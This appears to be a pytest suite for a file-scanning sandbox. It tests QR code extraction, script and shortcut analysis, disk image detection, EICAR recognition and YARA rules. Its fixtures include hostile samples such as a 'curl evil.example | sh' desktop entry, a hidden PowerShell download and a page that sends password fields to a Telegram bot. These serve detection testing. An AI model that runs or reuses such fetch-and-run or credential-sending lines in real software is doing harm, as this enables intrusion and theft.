"""Pictures with codes, scripts, shortcuts, disk images, the EICAR file and YARA rules."""

from __future__ import annotations

import base64
import io
from pathlib import Path
from typing import Any

import pytest
import zxingcpp
from PIL import Image

import documents as make
from gatepost.ports import Opened
from gatepost.sandbox.finds import Finds
from gatepost.sandbox.kinds import detect
from gatepost.sandbox.reader import Content
from gatepost.sandbox.readers import READERS, codes, eicar, load, picture, yara

EICAR = base64.b64decode(
    b"WDVPIVAlQEFQWzRcUFpYNTQoUF4pN0NDKTd9JEVJQ0FSLVNUQU5EQVJELUFOVElWSVJVUy1URVNULUZJTEUhJEgrSCo="
)


def read(octets: bytes, name: str = "a", reader: Any = None) -> Opened:
    kind = detect(octets, name=name).kind
    finds = Finds()
    finds.item("1", kind=kind, size=len(octets), sha256="")
    for each in (reader,) if reader is not None else [load(word) for word in READERS[kind] if word != "html"]:
        list(each(Content(path="1", octets=octets, name=name, kind=kind), finds))
    return finds.opened()


def evidence(opened: Opened, code: str) -> dict[str, Any]:
    trait = opened.items[0].trait(code)
    assert trait is not None, [each.code for each in opened.items[0].traits]
    return dict(trait.evidence)


def targets(opened: Opened) -> list[tuple[str, str]]:
    return [(link.source, link.target) for link in opened.links]


# --- codes


@pytest.mark.parametrize("form", ["PNG", "JPEG", "GIF", "BMP", "WEBP", "TIFF"])
def test_a_code_is_read_in_every_format(form: str) -> None:
    assert targets(read(make.saved(make.qr(), form))) == [("code", make.CODE)]


@pytest.mark.parametrize("word", ["QRCode", "MicroQRCode", "Aztec", "DataMatrix", "PDF417"])
def test_every_kind_of_code_is_read(word: str) -> None:
    text = "12345" if word == "MicroQRCode" else make.CODE
    code = zxingcpp.create_barcode(text, getattr(zxingcpp.BarcodeFormat, word))
    image = Image.fromarray(zxingcpp.write_barcode_to_image(code, scale=4))
    assert [found.text for found in codes.find_codes(image)] == [text]


def test_a_code_on_nothing_is_read_as_it_is_shown_on_paper() -> None:
    grey = make.qr()
    clear = Image.new("RGBA", grey.size, (0, 0, 0, 0))
    clear.paste((0, 0, 0, 255), mask=grey.point(lambda value: 255 - value))
    assert targets(read(make.saved(clear))) == [("code", make.CODE)]
    white = Image.new("RGBA", grey.size, (255, 255, 255, 0))
    white.paste((255, 255, 255, 255), mask=grey)
    assert targets(read(make.saved(white))) == [("code", make.CODE)]


def test_a_code_turned_upside_down_in_a_photograph_is_read() -> None:
    photo = Image.linear_gradient("L").resize((3000, 2000)).point(lambda value: 120 + value // 4)
    photo.paste(make.qr(scale=12).rotate(190, expand=True, fillcolor=255), (1200, 400))
    assert targets(read(make.saved(photo, "JPEG", quality=60))) == [("code", make.CODE)]


def test_a_later_frame_of_an_animation_is_read() -> None:
    blank = Image.new("L", make.qr().size, 255)
    file = io.BytesIO()
    blank.save(file, "GIF", save_all=True, append_images=[make.qr()], duration=50)
    assert targets(read(file.getvalue())) == [("code", make.CODE)]


def test_a_picture_of_too_many_points_is_not_unpacked() -> None:
    opened = read(make.saved(Image.new("1", (6_000, 6_000))))
    assert [trouble.code for trouble in opened.trouble] == ["limit"]


@pytest.mark.parametrize("octets", [b"\x89PNG\r\n\x1a\n", b"GIF89a\xff\xff\xff\xff", b"\xff\xd8\xff\xe0" + b"\0" * 50])
def test_a_broken_picture_is_trouble_and_no_more(octets: bytes) -> None:
    assert [trouble.code for trouble in read(octets, reader=picture.read).trouble] == ["damaged"]


@pytest.mark.parametrize(
    ("text", "target"),
    [
        ("https://evil.example/x", "https://evil.example/x"),
        ("HTTPS://EVIL.EXAMPLE/X", "HTTPS://EVIL.EXAMPLE/X"),
        ("URLTO:evil.example/x", "evil.example/x"),
        ("MEBKM:TITLE:x;URL:http\\://evil.example/;;", "http://evil.example/"),
        ("evil.example", "evil.example"),
        ("intent://scan/#Intent;end", "intent://scan/#Intent;end"),
        ("javascript:alert(1)", "javascript:alert(1)"),
        ("mailto:a@example.org", ""),
        ("WIFI:S:net;T:WPA;P:secret;;", ""),
        ("BEGIN:VCARD", ""),
        ("Just words. And more", ""),
        ("M1DOE/JOHN EABC123 FRALHR", ""),
        ("4006381333931", ""),
    ],
)
def test_what_a_telephone_would_open(text: str, target: str) -> None:
    assert picture.link_in(text) == target


# --- scripts, shortcuts, disk images


def test_a_script_tells_what_it_can_do() -> None:
    text = """var s = new ActiveXObject("WScript.Shell"); // "http://evil.example/a.exe"
    var x = new ActiveXObject("MSXML2.XMLHTTP");"""
    opened = read(text.encode(), "invoice.js")
    assert evidence(opened, "script.abilities") == {
        "language": "script-js",
        "abilities": ["runs programs", "fetches files"],
    }
    assert ("html-script", "http://evil.example/a.exe") in targets(opened)


def test_a_script_in_wide_letters_is_read() -> None:
    opened = read(b"\xff\xfe" + "powershell -enc AAAA; Start-Process x".encode("utf-16-le"), "a.ps1")
    assert "runs programs" in evidence(opened, "script.abilities")["abilities"]


def test_a_windows_shortcut() -> None:
    octets = make.lnk("..\\..\\Windows\\System32\\cmd.exe", " " * 200 + "/c start https://evil.example/a")
    found = evidence(read(octets, "a.lnk"), "shortcut.target")
    assert found["target"].endswith("cmd.exe")
    assert found["arguments"].startswith("/c start")
    assert targets(read(octets, "a.lnk")) == [("shortcut", "https://evil.example/a")]


@pytest.mark.parametrize(
    ("text", "target"),
    [
        (
            "[InternetShortcut]\r\nURL=file://192.0.2.1/share/a.exe\r\nIconFile=\\\\192.0.2.1\\i\r\n",
            "file://192.0.2.1/share/a.exe",
        ),
        ("[InternetShortcut]\nURL=https://evil.example/\n", "https://evil.example/"),
        ("[Desktop Entry]\nType=Application\nExec=sh -c 'curl https://evil.example/ | sh'\n", "https://evil.example/"),
    ],
)
def test_shortcuts_in_words(text: str, target: str) -> None:
    opened = read(text.encode(), "a.url")
    assert evidence(opened, "shortcut.target")["target"]
    assert target in [found for _, found in targets(opened)] or target in evidence(opened, "shortcut.target")["target"]


def test_a_library_of_windows() -> None:
    text = (
        '<?xml version="1.0"?><libraryDescription xmlns="http://schemas.microsoft.com/windows/2009/library">'
        "<searchConnectorDescription><simpleLocation><url>\\\\192.0.2.1\\share</url></simpleLocation>"
        "</searchConnectorDescription></libraryDescription>"
    )
    opened = read(text.encode(), "a.library-ms")
    assert evidence(opened, "shortcut.target")["target"] == "\\\\192.0.2.1\\share"
    assert read(b'<?xml version="1.0"?><note>x</note>', "a.xml").items[0].traits == ()


@pytest.mark.parametrize(
    ("octets", "form"),
    [
        (b"\0" * 32769 + b"CD001\x01".ljust(40) + b"BACKUP", "ISO 9660"),
        (b"vhdxfile".ljust(600, b"\0"), "VHDX"),
        (b"\0" * 600 + b"conectix".ljust(512, b"\0"), "VHD"),
    ],
)
def test_disk_images(octets: bytes, form: str) -> None:
    finds = Finds()
    finds.item("1", kind="iso", size=1, sha256="")
    list(load("disk_image")(Content(path="1", octets=octets, kind="iso"), finds))
    assert evidence(finds.opened(), "disk.image")["format"] == form


# --- EICAR and YARA


@pytest.mark.parametrize("tail", [b"", b"\r\n", b" " * 60, b"\n" * 1000])
def test_the_eicar_file_is_known(tail: bytes) -> None:
    assert evidence(read(EICAR + tail, "eicar.com", eicar.read), "malware.eicar")


@pytest.mark.parametrize("octets", [b" " + EICAR, b"See: " + EICAR, EICAR[:-1], EICAR + b" " * 60 + b"x" * 10, b""])
def test_a_text_about_the_eicar_file_is_not_the_file(octets: bytes) -> None:
    assert read(octets, "a.txt", eicar.read).items[0].traits == ()


ATTACKS = {
    "script_runs_what_it_fetched": b"MSXML2.XMLHTTP ADODB.Stream SaveToFile WScript.Shell",
    "powershell_hides_and_fetches": b"powershell -w hidden -c (New-Object Net.WebClient).DownloadString('x')",
    "shortcut_to_interpreter": make.lnk("x", "/c powershell x"),
    "page_builds_a_file_for_saving": b"<script>b = new Blob([atob('x')]); URL.createObjectURL(b); a.download = 1",
    "page_sends_passwords_to_chat_bot": b"<input type='password'><script>fetch('https://api.telegram.org/bot1/x')",
    "program_as_base64": b"<script>x = atob('TVqQAAMAAAAEAAAA//8AALgA')</script>",
    "equation_editor_object": b"{\\rtf1{\\object\\objclass Equation.3 }}",
    "notebook_with_program": make.onenote(b"@echo off\r\npowershell x"),
}


@pytest.fixture
def shipped() -> Any:
    yara.prepare()
    yield
    yara.prepare()


@pytest.mark.usefixtures("shipped")
@pytest.mark.parametrize("name", sorted(ATTACKS))
def test_the_shipped_rules_find_what_they_are_for(name: str) -> None:
    found = evidence(read(ATTACKS[name], reader=yara.read), "yara.match")
    assert [rule["name"] for rule in found["rules"]] == [name]
    assert found["rules"][0]["description"]


def test_every_shipped_rule_has_a_case() -> None:
    text = Path(yara.__file__).parents[1].joinpath("yara/gatepost.yar").read_text("utf-8")
    assert sorted(line.split()[1] for line in text.splitlines() if line.startswith("rule ")) == sorted(ATTACKS)


@pytest.mark.usefixtures("shipped")
def test_an_administrators_rules_count_and_a_broken_file_is_told(tmp_path: Path) -> None:
    (tmp_path / "own.yar").write_text('rule Own { meta: severity = "notice" strings: $a = "needle" condition: $a }')
    (tmp_path / "broken.yar").write_text("rule {")
    (tmp_path / "readme.txt").write_text("rule {")
    problems = yara.prepare(tmp_path)
    assert len(problems) == 1
    assert "broken.yar" in problems[0]
    found = evidence(read(b"a needle", reader=yara.read), "yara.match")
    assert found["severity"] == "notice"
    assert (found["rules"][0]["set"], found["rules"][0]["name"]) == ("own", "Own")
    assert yara.prepare(tmp_path / "missing")


@pytest.mark.usefixtures("shipped")
def test_a_pattern_that_never_ends_is_trouble(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    (tmp_path / "slow.yar").write_text("rule Slow { strings: $a = /(a+)+b/ condition: $a }")
    monkeypatch.setattr(yara, "MAX_SECONDS", 1)
    yara.prepare(tmp_path)
    assert [trouble.code for trouble in read(b"a" * 3_000_000, reader=yara.read).trouble] == ["time"]


def test_a_later_frame_that_is_larger_is_measured_too() -> None:
    first, later = Image.new("L", (30, 30), 255), Image.new("L", (30, 30), 0)
    file = io.BytesIO()
    first.save(file, "GIF", save_all=True, append_images=[later], duration=50)
    octets = bytearray(file.getvalue())
    at = octets.rfind(b"\x2c\x00\x00\x00\x00\x1e\x00\x1e\x00")  # the later frame's place and size
    octets[at + 5 : at + 9] = b"\xff\xff\xff\xff"
    assert [trouble.code for trouble in read(bytes(octets)).trouble] == ["limit"]
